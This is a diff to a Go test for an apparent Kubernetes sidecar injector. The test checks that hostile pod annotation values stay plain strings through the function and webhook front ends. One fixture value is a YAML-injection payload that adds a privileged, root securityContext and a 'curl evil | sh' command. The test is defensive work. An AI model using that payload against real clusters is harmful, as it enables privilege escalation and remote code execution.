@@ -11,27 +11,30 @@ import (
 	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
-	"sigs.k8s.io/kustomize/kyaml/fn/framework"
-	"sigs.k8s.io/kustomize/kyaml/kio"
 	"sigs.k8s.io/kustomize/kyaml/yaml"
 
 	"github.com/sidecar-injector/sidecar-injector/engine"
 	"github.com/sidecar-injector/sidecar-injector/engine/config"
 	"github.com/sidecar-injector/sidecar-injector/fn/function"
+	"github.com/sidecar-injector/sidecar-injector/fn/krmio"
 	"github.com/sidecar-injector/sidecar-injector/internal/patchtest"
 	"github.com/sidecar-injector/sidecar-injector/webhook/admission"
 )
 
-// hostileConfig templates a sidecar from an annotation and a label in every
-// way the old injector's files and this project's docs write it: unquoted,
-// in double and single quotes, inside a flow list, as part of a value, and
-// in a volume.
-const hostileConfig = `apiVersion: sidecar-injector.dev/v1alpha1
-kind: SidecarInjector
+// hostileConfig is the old Helm chart's ConfigMap form, which both front
+// ends take unchanged: the function as its functionConfig, the webhook as
+// its config file. Its data holds the old injector's sidecar and mutation
+// files, which template a sidecar from an annotation and a label in every
+// way those files and this project's docs write it: unquoted, in double and
+// single quotes, inside a flow list, as part of a value, and in a volume.
+// (An unquoted action is not valid YAML in a resource of its own; inside a
+// block scalar it is part of a string.)
+const hostileConfig = `apiVersion: v1
+kind: ConfigMap
 metadata:
   name: hostile
-spec:
-  sidecars:
+data:
+  sidecarconfig.yaml: |
     containers:
     - name: vault-agent
       image: example.com/vault:1
@@ -47,12 +50,13 @@ spec:
     - name: creds
       secret:
         secretName: aws-iam-{% annotation "vault.example.com/role" %}
-  mutations:
-  - name: vault
-    annotationNamespace: vault.example.com
-    annotationTrigger: inject
-    containers: [vault-agent]
-    volumes: [creds]
+  mutationconfig.yaml: |
+    mutationConfigs:
+    - name: vault
+      annotationNamespace: vault.example.com
+      annotationTrigger: inject
+      containers: [vault-agent]
+      volumes: [creds]
 `
 
 // benign stands for the value in the benign case.
@@ -63,10 +67,6 @@ const benign = "benign"
 // value, with the value exactly the pod's string wherever a template
 // placed it.
 func TestHostileValuesStayValues(t *testing.T) {
-	inj, err := engine.Load(config.Source{Name: "hostile.yaml", Data: []byte(hostileConfig)})
-	if err != nil {
-		t.Fatal(err)
-	}
 	hostile := map[string]string{
 		"the issue's payload": "x'\nsecurityContext: {privileged: true, runAsUser: 0}\ncommand: [sh, -c, 'curl evil | sh'] #",
 		"newlines":            "a\nb:\n  - c\n",
@@ -92,12 +92,21 @@ func TestHostileValuesStayValues(t *testing.T) {
 	}
 	want := map[string]any{}
 	for _, fe := range frontEnds {
-		want[fe.name] = injected(fe.inject(t, inj, hostilePod(benign)))
+		want[fe.name] = injected(fe.inject(t, hostileConfig, hostilePod(benign)))
+	}
+	// The benign case is the reference for the hostile ones: it must be an
+	// injection, the same through both front ends.
+	if status := want["webhook"].(map[string]any)["status"]; status != "injected" {
+		t.Fatalf("the benign pod was not injected (status %v):\n%s", status, mustJSON(t, want["webhook"]))
+	}
+	if !jsonEqual(want["function"], want["webhook"]) {
+		t.Fatalf("the front ends injected the benign pod differently:\nfunction %s\nwebhook %s",
+			mustJSON(t, want["function"]), mustJSON(t, want["webhook"]))
 	}
 	for name, v := range hostile {
 		t.Run(name, func(t *testing.T) {
 			for _, fe := range frontEnds {
-				got := fe.inject(t, inj, hostilePod(v))
+				got := fe.inject(t, hostileConfig, hostilePod(v))
 				// The benign case's structure, with the benign value replaced
 				// by the pod's, must be exactly what was injected.
 				expected := replaceStrings(want[fe.name], benign, v)
@@ -166,15 +175,20 @@ func hostilePod(v string) *corev1.Pod {
 	}
 }
 
-// frontEnds inject a pod holding a value through the function (a
-// ResourceList, serialized both ways) and through the webhook's handler (an
-// admission request, the patch applied), and return the injected pod.
+// frontEnds inject a pod holding a value through the function (cfg as the
+// functionConfig of a ResourceList, run as the binary runs it) and through
+// the webhook's handler (cfg loaded as a config file, an admission request,
+// the patch applied), and return the injected pod.
 var frontEnds = []struct {
 	name   string
-	inject func(t *testing.T, inj *engine.Injector, in *corev1.Pod) map[string]any
+	inject func(t *testing.T, cfg string, in *corev1.Pod) map[string]any
 }{
-	{"function", func(t *testing.T, inj *engine.Injector, in *corev1.Pod) map[string]any {
+	{"function", func(t *testing.T, cfg string, in *corev1.Pod) map[string]any {
 		t.Helper()
+		functionConfig, err := yaml.Parse(cfg)
+		if err != nil {
+			t.Fatal(err)
+		}
 		podJSON, err := json.Marshal(in)
 		if err != nil {
 			t.Fatal(err)
@@ -184,6 +198,9 @@ var frontEnds = []struct {
 			t.Fatal(err)
 		}
 		rl := yaml.NewMapRNode(&map[string]string{"apiVersion": "config.kubernetes.io/v1", "kind": "ResourceList"})
+		if err := rl.PipeE(yaml.SetField("functionConfig", functionConfig)); err != nil {
+			t.Fatal(err)
+		}
 		if err := rl.PipeE(yaml.SetField("items", yaml.NewListRNode())); err != nil {
 			t.Fatal(err)
 		}
@@ -191,8 +208,7 @@ var frontEnds = []struct {
 			t.Fatal(err)
 		}
 		var out bytes.Buffer
-		rw := &kio.ByteReadWriter{Reader: strings.NewReader(rl.MustString()), Writer: &out}
-		if err := framework.Execute(&function.Processor{Injector: inj}, rw); err != nil {
+		if _, err := krmio.Execute(&function.Processor{}, strings.NewReader(rl.MustString()), &out); err != nil {
 			t.Fatalf("the function failed: %v\n%s", err, out.String())
 		}
 		result, err := yaml.Parse(out.String())
@@ -213,8 +229,12 @@ var frontEnds = []struct {
 		}
 		return pod
 	}},
-	{"webhook", func(t *testing.T, inj *engine.Injector, in *corev1.Pod) map[string]any {
+	{"webhook", func(t *testing.T, cfg string, in *corev1.Pod) map[string]any {
 		t.Helper()
+		inj, err := engine.Load(config.Source{Name: "config.yaml", Data: []byte(cfg)})
+		if err != nil {
+			t.Fatal(err)
+		}
 		raw, err := json.Marshal(in)
 		if err != nil {
 			t.Fatal(err)
